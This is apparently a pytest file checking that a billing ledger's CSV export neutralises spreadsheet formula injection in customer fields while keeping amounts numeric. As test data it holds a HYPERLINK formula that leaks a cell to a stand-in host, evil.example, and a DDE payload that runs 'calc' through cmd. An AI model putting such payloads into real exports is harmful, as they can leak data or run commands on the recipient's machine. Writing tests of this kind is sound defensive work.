"""The accountant's CSV never carries a formula: customers' text is neutralised, amounts stay numbers."""
import csv
import io
import re
import zipfile

import pytest

from ledger.documents.csv_safe import FORMULA_TRIGGERS, Number, SafeCsvWriter, amount, safe_cell
from ledger.domain.periods import Period
from ledger.services.access import SYSTEM
from ledger.services.billing.issuing import credit_invoice, issue_invoice
from ledger.services.billing.reads import export_period
from ledger.services.billing.runs import run_invoices

PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Faktura")'


def exported_rows(period):
    target = io.BytesIO()
    export_period(period, target, actor=SYSTEM)
    summary = zipfile.ZipFile(target).read(f"summary-{period}.csv").decode("utf-8")
    return list(csv.DictReader(io.StringIO(summary)))


def test_a_customer_named_like_a_formula_reaches_the_csv_as_text_and_credit_amounts_stay_numbers(app, october):
    october(name=HOSTILE_NAME, country="NO", org_number="@SUM(1+1)*cmd|' /C calc'!A0")
    [draft] = run_invoices(Period(2026, 10), actor=SYSTEM).created
    issue_invoice(draft.id, actor=SYSTEM)
    credit_invoice(draft.id, "Fel kund", actor=SYSTEM)
    invoice, credit_note = exported_rows(Period(2026, 11))  # issued on 2 November
    assert invoice["customer"] == "'" + HOSTILE_NAME
    assert invoice["org_number"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert credit_note["total"] == "-" + invoice["total"] and PLAIN_NUMBER.fullmatch(credit_note["total"])
    for row in (invoice, credit_note):
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_TRIGGERS) or PLAIN_NUMBER.fullmatch(cell), (column, cell)


@pytest.mark.parametrize("text", ["=1+1", "+46 8 123", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1"])
def test_every_text_cell_that_could_start_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Testbolaget AB", "556677-8899", "1 499,00 kr", "a=b", "", "'quoted"])
def test_ordinary_text_is_written_unchanged(text):
    assert safe_cell(text) == text


def test_numbers_are_written_as_numbers_and_a_number_cell_refuses_anything_else():
    assert [safe_cell(amount(-95000)), safe_cell(Number("25")), safe_cell(-7), safe_cell(None)] == ["-950.00", "25", "-7", ""]
    with pytest.raises(ValueError):
        Number("-1+cmd")
    with pytest.raises(ValueError):
        Number("=1")


def test_the_writer_neutralises_a_whole_row_and_reads_back_the_same(tmp_path):
    target = io.StringIO()
    SafeCsvWriter(target).writerow(["=cmd", amount(-100), "plain, with comma", "line\nbreak"])
    assert next(csv.reader(io.StringIO(target.getvalue()))) == ["'=cmd", "-1.00", "plain, with comma", "line\nbreak"]
